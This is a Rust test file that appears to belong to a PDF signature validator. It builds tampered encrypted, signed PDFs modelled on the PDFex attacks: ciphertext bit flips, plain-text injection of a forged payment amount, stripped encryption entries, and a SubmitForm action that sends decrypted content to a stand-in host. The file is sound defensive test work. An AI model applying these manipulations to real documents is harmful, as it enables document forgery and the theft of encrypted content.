//! Encryption that is taken for integrity (PDFex, CCS 2019), or taken away.

use crate::catalogue::{Row, row};
use crate::error::Made;
use crate::expected::{Expected, failed};
use crate::good::{aes256, encrypted, rc4};
use crate::kit::Kit;
use crate::paper::bytes::{find, last_number, replaced, rfind, spliced};
use crate::paper::file::stream;

const CHANGED: Expected = failed!(HashFailure, "content-changed");

/// A signed letter that is encrypted by AES-256.
fn letter(kit: &Kit) -> Made {
    encrypted(kit, &aes256()?)
}

/// One octet flipped, `behind` the first `place`.
fn flipped(bytes: &[u8], place: &str, behind: usize) -> Vec<u8> {
    let at = find(bytes, place) + place.len() + behind;
    spliced(bytes, at, 1, &[bytes[at] ^ 1])
}

/// What the newest trailer holds.
fn trailer(bytes: &[u8]) -> String {
    let start = rfind(bytes, "trailer");
    let rest = String::from_utf8_lossy(&bytes[start..]).into_owned();
    let entries = rest.split_once("<<").map_or("", |(_, entries)| entries);
    let entries = entries.rsplit_once(">>").map_or(entries, |(entries, _)| entries);
    match entries.split_once("/Prev") {
        Some((before, after)) => {
            let rest = after.trim_start().trim_start_matches(|c: char| c.is_ascii_digit());
            [before, rest].concat()
        }
        None => entries.to_owned(),
    }
}

/// Appends a revision with this object, and what `entries` makes of the newest trailer.
fn later(bytes: &[u8], number: u32, body: &[u8], entries: fn(String) -> String) -> Vec<u8> {
    let (previous, at) = (last_number(bytes, "startxref"), bytes.len());
    let object = [format!("{number} 0 obj\n").as_bytes(), body, b"\nendobj\n"].concat();
    let start = at + object.len();
    let entries = entries(trailer(bytes));
    let table = format!(
        "xref\n{number} 1\n{at:010} 00000 n \ntrailer\n<<{entries}/Prev {previous}>>\nstartxref\n{start}\n%%EOF\n"
    );
    [bytes, &object, table.as_bytes()].concat()
}

const FORGED: &[u8] = b"BT /F1 16 Tf 72 780 Td (Dibayarkan Rp 999.999.999) Tj ET";

pub(super) const ROWS: &[Row] = &[
    row(
        "locked-bit-flipped",
        "A bit of what is encrypted was flipped (malleability of CBC).",
        CHANGED,
        |kit| Ok(flipped(&letter(kit)?, "stream\n", 40)),
    )
    .locked(),
    row("locked-bit-flipped-rc4", "A bit of what is encrypted by RC4 was flipped.", CHANGED, |kit| {
        Ok(flipped(&encrypted(kit, &rc4()?)?, "stream\n", 10))
    })
    .locked(),
    row(
        "locked-plain-content",
        "A later revision puts a text in clear, by the filter that does nothing (7.4.10).",
        Expected::disallowed(&["page-changed"]),
        |kit| {
            let identity = "/Filter/Crypt/DecodeParms<</Name/Identity>>";
            Ok(later(&letter(kit)?, 4, &stream(identity, FORGED), |entries| entries))
        },
    )
    .locked(),
    row(
        "locked-plain-object",
        "A later revision adds an object in clear.",
        Expected::disallowed(&["page-changed"]),
        |kit| Ok(later(&letter(kit)?, 4, &stream("", FORGED), |entries| entries)),
    )
    .locked(),
    row(
        "locked-encryption-dropped",
        "A later trailer no longer says that the file is encrypted.",
        Expected::left_open(&["locked"]),
        |kit| {
            let without = |entries: String| {
                let (before, after) = entries.split_once("/Encrypt").unwrap_or((&entries, ""));
                let rest = after.trim_start().trim_start_matches(|c: char| c.is_ascii_digit() || c == ' ');
                [before, rest.trim_start_matches('R')].concat()
            };
            Ok(later(&letter(kit)?, 4, &stream("", FORGED), without))
        },
    )
    .locked(),
    row(
        "locked-submitting",
        "A later revision sends what is decrypted elsewhere (direct exfiltration).",
        Expected::left_open(&["later-revision"]),
        |kit| {
            let action = b"<</S/SubmitForm/F<</FS/URL/F(https://uji-coba.invalid)>>/Flags 256>>";
            Ok(later(&letter(kit)?, 4, action, |entries| entries))
        },
    )
    .locked(),
    row(
        "locked-other-keys",
        "A later revision replaces the encryption dictionary's entries for the password.",
        Expected::left_open(&["locked"]),
        |kit| {
            let bytes = letter(kit)?;
            let number = last_number(&bytes, "/Encrypt") as u32;
            Ok(later(&bytes, number, b"<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>", |entries| entries))
        },
    )
    .locked(),
    row(
        "locked-permissions",
        "What the encryption allows was rewritten in place.",
        failed!(HashFailure, "content-changed"),
        |kit| Ok(flipped(&letter(kit)?, "/Perms", 4)),
    )
    .locked(),
    row(
        "locked-integrity-code",
        "The file carries a code over its integrity (ISO/TS 32004), which is not judged: told.",
        Expected::passed_with(&["encrypted", "integrity-code-not-judged"]),
        |kit| {
            // Who signs refuses such a file: it becomes one only then, and the signature is made anew.
            let signed = encrypted(kit, &aes256()?)?;
            let with_salt = replaced(&signed, "/EncryptMetadata true", "/KDFSalt<00000000000>");
            kit.resealed(&with_salt, &kit.people.active)
        },
    )
    .locked(),
    row(
        "password-not-given",
        "The document is encrypted, and nobody gave the password: what is in it cannot be judged.",
        Expected::open(&["encrypted", "locked"]),
        letter,
    ),
];
